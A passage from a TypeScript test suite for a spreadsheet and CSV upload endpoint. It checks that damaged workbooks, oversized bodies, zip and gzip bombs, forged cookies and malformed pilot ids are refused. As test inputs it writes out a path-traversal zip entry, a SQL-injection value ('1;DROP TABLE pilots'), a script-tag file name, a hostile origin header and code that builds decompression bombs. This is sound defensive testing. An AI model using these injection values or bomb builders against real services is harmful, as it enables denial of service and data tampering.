          const bytes = (which === "template" ? templateXlsx : projectWorkbook).slice();
          for (const [at, value] of flips) bytes[Math.floor(at * bytes.length)] = value;
          return { kind: "flipped", bytes };
        }),
      // A zip of random files, or a Word document: a zip that is not a workbook.
      fc
        .array(
          fc.tuple(
            fc.constantFrom("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "_rels/.rels", "readme.txt", "../evil.txt"),
            fc.string({ maxLength: 200 }),
          ),
          { maxLength: 5 },
        )
        .map((entries) => ({ kind: "zip", entries })),
      fc.constant({ kind: "docx", bytes: wordDocument }),
    );
    await fc.assert(
      fc.asyncProperty(damaged, fc.constantFrom<"pilot" | "project">("pilot", "project"), async (file, route) => {
        let bytes: Uint8Array;
        if ("entries" in file) {
          const zip = new JSZip();
          for (const [name, content] of file.entries) zip.file(name, content);
          bytes = await zip.generateAsync({ type: "uint8array", compression: "DEFLATE" });
        } else bytes = file.bytes;
        await tryUpload(`damaged XLSX (${file.kind}) → ${route}`, { body: bytes, fileName: "book.xlsx", pilot: route === "pilot" ? pilotId : null });
      }),
      { numRuns: 100, seed },
    );
  }, 300_000);

  it("accepts the real files it wrote, unchanged, on both routes (the happy path of the same checks)", async () => {
    await tryUpload("own files", { body: templateXlsx, fileName: "template.xlsx", pilot: pilotId }, { outcome: "accepted" });
    await tryUpload("own files", { body: templateCsv, fileName: "template.csv", pilot: pilotId }, { outcome: "accepted" });
    await tryUpload("own files", { body: projectWorkbook, fileName: "project-data.xlsx", pilot: null }, { outcome: "accepted" });
    // With a byte-order mark and Windows line endings, as Excel saves CSV.
    await tryUpload(
      "own files",
      { body: "\uFEFF" + templateCsv.replace(/^\uFEFF/, "").replace(/\r?\n/g, "\r\n"), fileName: "template.csv", pilot: pilotId },
      { outcome: "accepted" },
    );
  }, 120_000);

  it("refuses oversized files with a clear message: over 40 MB, and over the row limits", async () => {
    const limitMb = IMPORT_LIMITS.maxBytes / 1024 / 1024;
    const over = IMPORT_LIMITS.maxBytes + 1;
    // Bytes: a body over the limit, with or without its length announced, and a gzip body that unpacks beyond it.
    const zeros = new Uint8Array(over);
    await tryUpload("oversized", { body: zeros, fileName: "big.csv", pilot: pilotId }, { status: 413, messageIncludes: `larger than ${limitMb} MB` });
    const text = new TextEncoder().encode(`Code,Period,Value\n${"LANG-H,5,1\n".repeat(Math.ceil(over / 11))}`);
    await tryUpload("oversized", { body: text, fileName: "big.csv", pilot: null }, { status: 413, messageIncludes: `larger than ${limitMb} MB` });
    await tryUpload("oversized", { body: text, fileName: "big.xlsx", pilot: pilotId }, { status: 413, messageIncludes: `larger than ${limitMb} MB` });
    const streamed = new ReadableStream<Uint8Array>({
      start(controller) {
        const chunk = new Uint8Array(1024 * 1024).fill(0x41);
        for (let i = 0; i <= limitMb; i++) controller.enqueue(chunk);
        controller.close();
      },
    });
    await tryUpload("oversized", { body: streamed, fileName: "streamed.csv", pilot: pilotId }, { status: 413, messageIncludes: `larger than ${limitMb} MB` });
    await tryUpload(
      "oversized",
      { body: gzipSync(zeros), fileName: "bomb.csv", pilot: pilotId, headers: { "content-encoding": "gzip" } },
      { status: 413, messageIncludes: `larger than ${limitMb} MB` },
    );

    // Rows: one over each limit, on the route that reads that sheet.
    const rowsOver = (header: string, row: (i: number) => string, count: number) => `${header}\n${Array.from({ length: count }, (_, i) => row(i)).join("\n")}\n`;
    const resultRows = IMPORT_LIMITS.maxResultRows + 1;
    await tryUpload(
      "too many rows",
      { body: rowsOver("Code,Period,Value", () => "LANG-H,5,1", resultRows), fileName: "rows.csv", pilot: pilotId },
      { outcome: "refused", messageIncludes: `at most ${IMPORT_LIMITS.maxResultRows.toLocaleString("en-GB")}` },
    );
    const indicatorRows = IMPORT_LIMITS.maxIndicatorRows + 1;
    await tryUpload(
      "too many rows",
      { body: rowsOver("Indicator,Kind,Measure,Goal", (i) => `Indicator ${i},quantitative,count,10`, indicatorRows), fileName: "rows.csv", pilot: pilotId },
      { outcome: "refused", messageIncludes: `at most ${IMPORT_LIMITS.maxIndicatorRows.toLocaleString("en-GB")}` },
    );
    const projectRows = IMPORT_LIMITS.maxProjectRows + 1;
    await tryUpload(
      "too many rows",
      { body: rowsOver("Project,Programme,Start date,End date,Tolerance (%)", (i) => `Project ${i},P,2024-01-01,2025-12-31,15`, projectRows), fileName: "rows.csv", pilot: null },
      { outcome: "refused" },
    );
    // In a workbook too: a Pilots sheet one row over its limit.
    const workbook = new ExcelJS.Workbook();
    const pilotsSheet = workbook.addWorksheet("Pilots");
    pilotsSheet.addRow([...columns.pilots]);
    for (let i = 0; i <= IMPORT_LIMITS.maxPilotRows; i++) pilotsSheet.addRow([projectName, `Pilot ${i}`, "", "", "", "2024-01-01", "2025-12-31", "quarterly"]);
    workbook.addWorksheet("Indicators").addRow([...columns.indicators]);
    await tryUpload(
      "too many rows",
      { body: new Uint8Array(await workbook.xlsx.writeBuffer()), fileName: "rows.xlsx", pilot: null },
      { outcome: "refused", messageIncludes: `at most ${IMPORT_LIMITS.maxPilotRows.toLocaleString("en-GB")}` },
    );
    // A zip bomb: a sheet of 401 MB of zeros packs into well under a megabyte, under every upload limit.
    const bomb = new JSZip();
    bomb.file("[Content_Types].xml", "<Types/>");
    bomb.file("xl/worksheets/sheet1.xml", new Uint8Array(MAX_UNPACKED_WORKBOOK_BYTES + 1024 * 1024));
    const packed = await bomb.generateAsync({ type: "uint8array", compression: "DEFLATE", compressionOptions: { level: 1 } });
    expect(packed.length).toBeLessThan(5 * 1024 * 1024);
    await tryUpload("zip bomb", { body: packed, fileName: "bomb.xlsx", pilot: pilotId }, { outcome: "refused", messageIncludes: "unpacks to more than 400 MB" });
  }, 240_000);

  it("refuses a workbook that understates its unpacked size, and memory returns to its level afterwards", async () => {
    // 1 GB of zeros in two parts, each declaring 200 bytes: about a megabyte packed, under every upload limit.
    const lying = understatedZip([
      { name: "xl/worksheets/sheet1.xml", actualBytes: 1024 * 1024 * 1024, declaredSize: 200 },
      { name: "[Content_Types].xml", actualBytes: 64 * 1024 * 1024, declaredSize: 200 },
    ]);
    expect(lying.length).toBeLessThan(5 * 1024 * 1024);
    const megabytes = (bytes: number) => Math.round(bytes / 1024 / 1024);
    await new Promise((resolve) => setTimeout(resolve, 500));
    const before = process.memoryUsage().rss;
    let peak = before;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
    try {
      await tryUpload("understated zip", { body: lying, fileName: "lying.xlsx", pilot: pilotId }, { outcome: "refused", messageIncludes: "unpacks to more than 400 MB" });
      await new Promise((resolve) => setTimeout(resolve, 1000));
    } finally {
      clearInterval(sampler);
    }
    const after = process.memoryUsage().rss;
    console.log(
      `understated zip (${megabytes(lying.length)} MB packed, 1,088 MB unpacked, 400 B declared): memory ${megabytes(before)} MB before, peak ${megabytes(peak)} MB, ${megabytes(after)} MB after`,
    );
    // The server and the import worker share this process: inflating chunk by chunk keeps the rise small.
    expect(peak - before).toBeLessThan(300 * 1024 * 1024);
    expect(after - before).toBeLessThan(150 * 1024 * 1024);
  }, 120_000);

  it("refuses uploads without the right, with a wrong pilot, empty, or in an unknown encoding", async () => {
    const csv = "Code,Period,Value,Comment\nLANG-H,5,12,Upload test\n";
    await tryUpload("access and query", { body: csv, fileName: "a.csv", pilot: pilotId, cookie: null }, { status: 401 });
    await tryUpload("access and query", { body: csv, fileName: "a.csv", pilot: pilotId, cookie: "pm_session=forged-token" }, { status: 401 });
    await tryUpload("access and query", { body: csv, fileName: "a.csv", pilot: null, cookie: coordinatorCookie }, { status: 403 });
    await tryUpload("access and query", { body: csv, fileName: "a.csv", pilot: otherPilotId, cookie: coordinatorCookie }, { status: 403 });
    for (const pilot of ["abc", "-1", "0", "1.5", "1e3", "99999999", "1;DROP TABLE pilots", "%00", " "]) {
      await tryUpload("access and query", { body: csv, fileName: "a.csv", pilot }, { outcome: "refused" });
    }
    await tryUpload("access and query", { body: new Uint8Array(0), fileName: "empty.csv", pilot: pilotId }, { status: 400 });
    // A hostile file name is only a label: the file is read as any other, and the name is cut to 200 characters.
    await tryUpload("access and query", { body: csv, fileName: "x".repeat(5_000) + "\u0000<script>.csv", pilot: pilotId });
    await tryUpload("access and query", { body: csv, fileName: "a.csv", pilot: pilotId, headers: { "content-encoding": "br-nonsense" } }, { outcome: "refused" });
    await tryUpload(
      "access and query",
      { body: new TextEncoder().encode("not gzip at all"), fileName: "a.csv", pilot: pilotId, headers: { "content-encoding": "gzip" } },
      { outcome: "refused" },
    );
    await tryUpload("access and query", { body: csv, fileName: "a.csv", pilot: pilotId, headers: { origin: "https://evil.example" } }, { status: 403 });
    // A gzip-encoded sound file is read like the plain one (and here refused only for its missing comment, or accepted).
    await tryUpload("access and query", { body: gzipSync(new TextEncoder().encode(csv)), fileName: "a.csv", pilot: pilotId, headers: { "content-encoding": "gzip" } });
    // The job API: unknown jobs, someone else's token.
    const unknown = await trpcPostAs("imports.commit", { jobId: "5b0d8f3e-2a8f-4c41-9d1e-6a3c2b7e9f10", token: "x" }, adminCookie);
    expect(unknown.status).toBe(404);
    expectReadable(unknown.body.error?.message, "commit of an unknown job");
    await expect(getJob(baseUrl, "5b0d8f3e-2a8f-4c41-9d1e-6a3c2b7e9f10")).rejects.toThrow(/404/);
  }, 120_000);
});
